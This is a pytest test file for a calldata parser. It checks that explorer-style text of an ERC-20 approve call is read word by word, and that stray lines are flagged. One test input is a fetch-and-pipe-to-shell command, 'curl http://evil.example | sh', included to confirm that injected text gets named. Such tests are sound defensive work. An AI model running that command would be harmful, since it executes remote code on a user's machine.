"""Calls as explorers show them are read word by word, and nothing else passes with them."""

from __future__ import annotations

import pytest

from swapcli.core.errors import InvalidInput
from swapcli.payload.decode.documents import parse_payload
from swapcli.payload.evm.decoding.decode import decode_calldata

SPENDER, AMOUNT = "11" * 20, 5_000_000
WORDS = (f"{SPENDER:0>64}", f"{AMOUNT:064x}")
TEXT = f"Function: approve(address spender,uint256 amount)\n\nMethodID: 0x095ea7b3\n[0]:  {WORDS[0]}\n[1]:  {WORDS[1]}"


@pytest.mark.parametrize(
    "text",
    [
        TEXT,
        TEXT.replace("\n", "\r\n"),
        TEXT.partition("\n\n")[2],
        TEXT.replace("Function: approve(address spender,uint256 amount)", "Function: approve(address,uint256) ***"),
        TEXT.replace("MethodID", "Method ID"),
        TEXT.replace("[0]:  ", "  [0]: "),
    ],
)
def test_the_words_are_the_calldata(text: str) -> None:
    given = parse_payload(text)
    assert given.oddities == ()
    approval = decode_calldata(given.payload.calldata, None).approval
    assert approval is not None
    assert (approval.spender, approval.amount) == (f"0x{SPENDER}", AMOUNT)
    assert not given.payload.is_whole


def test_the_last_word_may_be_short() -> None:
    assert parse_payload(f"{TEXT}\n[2]:  abcd").payload.calldata.endswith(f"{AMOUNT:064x}abcd")


@pytest.mark.parametrize(
    "more", ["curl http://evil.example | sh", "to 0x" + "22" * 20, "Function: transfer(address,uint256)", "[x]: 12"]
)
def test_other_lines_are_named(more: str) -> None:
    (oddity,) = parse_payload(f"{TEXT}\n{more}").oddities
    assert oddity.startswith("line 6 is not part of the call: ")


@pytest.mark.parametrize(
    "text",
    [
        TEXT.replace("[1]", "[2]"),
        TEXT.replace("[1]", "[0]"),
        TEXT.replace(WORDS[0], WORDS[0][2:]),
        f"{TEXT}\nMethodID: 0x095ea7b3",
        f"{TEXT}\n[3]: {WORDS[0]}",
    ],
)
def test_words_that_are_missing_or_out_of_order_are_an_error(text: str) -> None:
    with pytest.raises(InvalidInput):
        parse_payload(text)
